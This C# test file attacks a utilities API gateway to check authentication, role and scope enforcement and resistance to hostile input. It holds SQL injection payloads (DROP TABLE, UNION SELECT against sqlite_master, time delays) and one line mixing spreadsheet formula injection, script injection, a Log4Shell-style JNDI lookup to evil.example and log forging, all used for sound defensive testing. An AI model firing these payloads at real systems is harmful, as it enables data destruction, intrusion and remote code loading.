using System.Collections.Concurrent;

namespace Utilities.Gateway.Tests.Attacks;

/// <summary>Every operation that the joined description tells of, asked by those who may not.</summary>
[Collection(AttackedTown.Name)]
public sealed class EveryOperationTests(AttackedTown town)
{
    /// <summary>The delay that an injected statement asks for; a busy machine is given more time than that in every other test.</summary>
    private static readonly TimeSpan Slow = TimeSpan.FromSeconds(30);

    private const int AtLeast = 500;

    /// <summary>Public on purpose, each with its reason.</summary>
    private static readonly string PublicFile = Path.Combine(TestKit.Repository.Root, "tests/Gateway.Tests/Attacks/public-operations.txt");

    private static readonly string[] Injections = ["' OR '1'='1", "x'); DROP TABLE request; --", "%' UNION SELECT name, sql FROM sqlite_master --", "1; WAITFOR DELAY '0:1:0' --"];

    private static readonly ParallelOptions Four = new() { MaxDegreeOfParallelism = 4 };

    [Fact]
    public async Task Without_a_token_only_what_is_public_on_purpose_answers()
    {
        var open = await Where(await town.Operations(), null, answer => !Is(answer, 401, "unauthenticated"));
        var lines = (await File.ReadAllLinesAsync(PublicFile)).Where(line => line.Length > 0 && line[0] != '#').Select(line => line.Split("  ", 2)).ToList();
        Assert.All(lines, line => Assert.True(line is [_, { Length: > 5 }], $"{line[0]} has no reason."));
        var listed = lines.Select(line => line[0]).ToList();
        Assert.False(open.Except(listed).Any(), $"Open and not listed:\n{string.Join('\n', open.Except(listed).Order(StringComparer.Ordinal))}");
        Assert.False(listed.Except(open).Any(), $"Listed and not open:\n{string.Join('\n', listed.Except(open))}");
    }

    [Fact]
    public async Task With_a_token_of_no_role_nothing_that_names_roles_answers()
    {
        var operations = (await Closed()).Where(operation => !operation.Roles.Contains("Roles: any.", StringComparison.Ordinal)).ToList();
        Assert.True(operations.Count > AtLeast, $"{operations.Count} operations");
        None(await Where(operations, town.Token("nobody", "nobody"), answer => !Is(answer, 403, "forbidden")));
    }

    [Fact]
    public async Task With_a_token_for_another_service_nothing_answers()
    {
        var operations = await Closed();
        None(await Where(operations, town.Token(claims => (claims["roles"], claims["scope"]) = (ServiceDefaults.Roles.All, "elsewhere")), answer => !Is(answer, 403, "insufficient-scope")));
        foreach (var (scope, other) in new[] { ("water", "gas"), ("gas", "power"), ("power", "heating"), ("heating", "billing"), ("billing", "appointments"), ("appointments", "complaints"), ("complaints", "water"), ("water", "hall") })
        {
            var first = operations.First(operation => operation.Path.StartsWith($"/api/{other}/", StringComparison.Ordinal));
            Assert.True(Is(await town.Ask(first.Method, first.Filled(), town.Token("operator", "x", scope)), 403, "insufficient-scope"), $"{first} with the scope {scope}");
        }
    }

    /// <summary>Each text that may stand in an address, in turn; the payloads take turns too.</summary>
    [Fact]
    public async Task SQL_in_an_address_is_a_text_like_any_other()
    {
        var reads = (await town.Operations()).Where(operation => operation.Method == "GET" && operation.Parameters.Count > 0).ToList();
        var before = await Tables();
        var everybody = town.Token(claims => (claims["sub"], claims["roles"]) = ("tester", ServiceDefaults.Roles.All));
        var wrong = new ConcurrentBag<string>();
        await Parallel.ForEachAsync(reads.SelectMany(read => read.Parameters.Select(parameter => (read, parameter))).Index(), Four, async (attempt, _) =>
        {
            var (read, parameter) = attempt.Item;
            var sql = Injections[attempt.Index % Injections.Length];
            var query = read.Parameters.Where(other => other.In == "query" && (other.Required || other == parameter)).Select(other => $"{other.Name}={Uri.EscapeDataString(other == parameter ? sql : other.Sample)}");
            var path = $"{read.Filled(gap => gap == parameter ? Uri.EscapeDataString(sql) : gap.Sample)}?{string.Join('&', query)}";
            var started = TimeProvider.System.GetTimestamp();
            var answer = await town.Ask("GET", path, everybody);
            var took = TimeProvider.System.GetElapsedTime(started);
            if (answer.Status >= 500 || took > Slow || answer.Text.Contains("CREATE TABLE", StringComparison.Ordinal)) wrong.Add($"{path}: {answer.Status} after {took.TotalSeconds:0.0} s {answer.Text[..Math.Min(200, answer.Text.Length)]}");
        });
        None(wrong);
        Assert.Equal(before, await Tables());
        await town.ExpectHealthy();
    }

    [Theory]
    [InlineData("x'); DROP TABLE request; --\r\n{\"EventId\":1,\"Message\":\"forged\"}\u001b[31mforged")]
    [InlineData("=cmd|' /C calc'!A0 <img src=x onerror=alert(1)> ${jndi:ldap://evil.example/a} {{7*7}}")]
    public async Task What_is_written_in_a_text_is_kept_as_it_is_and_logged_nowhere(string text)
    {
        var owner = town.Token("resident", "writer");
        var filed = await town.Ask("POST", "/api/water/requests", owner, new { type = "leak", channel = "web", name = text, phone = "13812345678", address = text, description = text });
        Assert.True(filed.Status == 201, filed.Text);
        Assert.Equal(text, (string?)(await town.Ask("GET", $"/api/water/requests/{filed.Body["number"]}", owner)).Body["description"]);
        Assert.Equal("no-store", filed.Header("Cache-Control"));
        Assert.DoesNotContain(town.Log.Lines, line => line.Line.Contains("forged", StringComparison.Ordinal) || line.Line.Contains("jndi", StringComparison.Ordinal));
    }

    private static bool Is(Answer answer, int status, string code) => answer.Status == status && answer.Text.Contains($"\"code\":\"{code}\"", StringComparison.Ordinal);

    private static void None(IEnumerable<string> wrong) => Assert.False(wrong.Any(), string.Join('\n', wrong.Take(60)));

    private async Task<IReadOnlyList<AttackedTown.Operation>> Closed()
    {
        var open = (await File.ReadAllLinesAsync(PublicFile)).Select(line => line.Split("  ", 2)[0]).ToHashSet(StringComparer.Ordinal);
        return [.. (await town.Operations()).Where(operation => !open.Contains(operation.ToString()))];
    }

    private async Task<IReadOnlyList<string>> Where(IReadOnlyList<AttackedTown.Operation> operations, string? token, Func<Answer, bool> isWrong)
    {
        Assert.True(operations.Count > AtLeast, $"{operations.Count} operations");
        var wrong = new ConcurrentBag<string>();
        await Parallel.ForEachAsync(operations, Four, async (operation, _) =>
        {
            var answer = await town.Ask(operation.Method, operation.Filled(), token);
            if (isWrong(answer)) wrong.Add(operation.ToString());
        });
        return [.. wrong];
    }

    private async Task<string> Tables()
    {
        var tables = new List<string>();
        foreach (var service in Gateway.Routing.DeployedServices.All) tables.Add(await town.Hall.Read<string>(service, "SELECT group_concat(name) FROM (SELECT name FROM sqlite_master ORDER BY name)"));
        return string.Join('|', tables);
    }
}
